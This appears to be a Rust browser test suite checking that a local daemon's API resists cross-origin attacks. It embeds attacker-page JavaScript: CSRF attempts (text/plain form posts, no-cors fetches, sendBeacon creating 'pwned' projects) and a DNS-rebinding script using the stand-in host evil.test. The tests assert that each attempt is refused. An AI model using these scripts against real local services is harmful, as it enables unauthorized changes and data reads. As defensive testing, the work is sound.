//! Four attacks by a real browser: they change nothing and read nothing. And templates filled with hostile
//! data: nothing runs, nothing is asked for, and the page says what the data says.
#![cfg(feature = "browser")]
#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod attacker;
mod chromium;
mod hostile_preview;
mod payloads;
mod templates;
mod victim;

use attacker::Attacker;
use victim::Victim;

/// What a page of the attacker tries: every way a browser has to reach another port.
const CROSS_ORIGIN: &str = r#"
const api = 'http://127.0.0.1:API', report = (name, text) => fetch('/report/' + name + '/' + encodeURIComponent(text));
const reading = async (name, make) => {
  try { const answer = await make(); report(name, answer.type + ' ' + (await answer.text()).slice(0, 200)); }
  catch (error) { report(name, 'refused'); }
};
const json = { 'content-type': 'application/json' };
(async () => {
  await reading('cors-get', () => fetch(api + '/api/health'));
  await reading('cors-post', () => fetch(api + '/api/projects', { method: 'POST', headers: json, body: '{"name":"pwned"}' }));
  await reading('no-cors-get', () => fetch(api + '/api/projects', { mode: 'no-cors' }));
  await reading('no-cors-post', () => fetch(api + '/api/projects', { method: 'POST', mode: 'no-cors', body: '{"name":"pwned"}' }));
  await reading('no-cors-beacon', async () => { navigator.sendBeacon(api + '/api/projects', new Blob(['{"name":"pwned"}'], { type: 'text/plain' })); return new Response('sent'); });
  await new Promise((done) => { const image = new Image(); image.onload = () => { report('image', 'loaded'); done(); }; image.onerror = () => { report('image', 'refused'); done(); }; image.src = api + '/icon.svg'; });
  await new Promise((done) => { const script = document.createElement('script'); script.onload = () => { report('script', 'loaded'); done(); }; script.onerror = () => { report('script', 'refused'); done(); }; script.src = api + '/main.js'; document.head.append(script); });
  await new Promise((done) => {
    const frame = document.createElement('iframe'); frame.name = 'target'; document.body.append(frame);
    const form = document.createElement('form'); form.method = 'post'; form.action = api + '/api/projects'; form.enctype = 'text/plain'; form.target = 'target';
    const field = document.createElement('input'); field.name = '{"name":"pwned","x":"'; field.value = '"}'; form.append(field); document.body.append(form);
    frame.onload = () => { let seen = 'refused'; try { seen = frame.contentDocument.body.innerText; } catch { } report('form', seen); done(); };
    form.submit();
  });
  await new Promise((done) => { const frame = document.createElement('iframe'); frame.onload = () => { let seen = 'refused'; try { seen = frame.contentDocument.body.innerText || 'refused'; } catch { } report('frame', seen); done(); }; frame.src = 'PREVIEW'; document.body.append(frame); });
  report('done', 'done');
})();
"#;

/// What a page under a rebound name tries: for the browser, the daemon is its own origin.
const REBOUND: &str = r#"
const report = (name, text) => fetch('/attacker/report/' + name + '/' + encodeURIComponent(text));
const reading = async (name, make) => {
  try { const answer = await make(); report(name, answer.status + ' ' + (await answer.text()).slice(0, 300)); }
  catch (error) { report(name, 'refused'); }
};
const json = { 'content-type': 'application/json' };
(async () => {
  await reading('health', () => fetch('/api/health'));
  await reading('console', () => fetch('/'));
  await reading('projects', () => fetch('/api/projects'));
  await reading('create', () => fetch('/api/projects', { method: 'POST', headers: json, body: '{"name":"pwned"}' }));
  await reading('session', () => fetch('/api/session', { method: 'POST', headers: json, body: '{"code":"00000000000000000000000000000000"}' }));
  await reading('openapi', () => fetch('/openapi.json'));
  report('done', 'done');
})();
"#;

#[test]
fn a_page_of_another_port_changes_nothing_and_reads_nothing() {
    let victim = Victim::start();
    let script =
        CROSS_ORIGIN.replace("API", &victim.api_port()).replace("PREVIEW", &victim.ticket());
    let before = victim.state();
    let attacker = Attacker::serve(&script, None);
    chromium::visit(&attacker.url("127.0.0.1"), &[]);
    let reports = attacker.reports();
    let told = |name: &str| reports.iter().find(|(n, _)| n == name).map(|(_, text)| text.as_str());
    assert_eq!(told("done"), Some("done"), "the attack ran to its end: {reports:?}");
    for name in ["cors-get", "cors-post", "image", "script", "form", "frame"] {
        assert_eq!(told(name), Some("refused"), "{name}: {reports:?}");
    }
    for name in ["no-cors-get", "no-cors-post"] {
        let text = told(name).unwrap_or_default();
        assert!(text == "refused" || text.trim() == "opaque", "{name}: {reports:?}");
    }
    assert_eq!(victim.state(), before, "nothing has changed");
    victim.stop();
}

#[test]
fn a_rebound_name_changes_nothing_and_reads_nothing() {
    let victim = Victim::start();
    let before = victim.state();
    let attacker = Attacker::serve(REBOUND, Some(victim.api()));
    chromium::visit(&attacker.url("evil.test"), &["MAP evil.test 127.0.0.1"]);
    let reports = attacker.reports();
    assert!(reports.iter().any(|(name, _)| name == "done"), "it ran to its end: {reports:?}");
    for name in ["health", "console", "projects", "create", "session", "openapi"] {
        let (_, text) = reports.iter().find(|(n, _)| n == name).unwrap();
        assert!(text.starts_with("403 "), "{name}: {text}");
        assert!(text.contains("FORBIDDEN") && text.contains("host"), "{name}: {text}");
    }
    assert_eq!(victim.state(), before, "nothing has changed");
    victim.stop();
}

#[test]
fn a_preview_reaches_nobody() {
    let victim = Victim::start();
    let attacker = Attacker::serve("", None);
    let url = victim.ticket_of_page_that_leaks(&attacker.url("127.0.0.1"));
    let before = victim.state();
    let dom = chromium::visit(&url, &[]);
    assert!(dom.contains("Leaky"), "the page was shown: {dom}");
    assert_eq!(attacker.hits(), Vec::<String>::new(), "the page asked nobody for anything");
    assert_eq!(victim.state(), before, "nothing has changed");
    victim.stop();
}
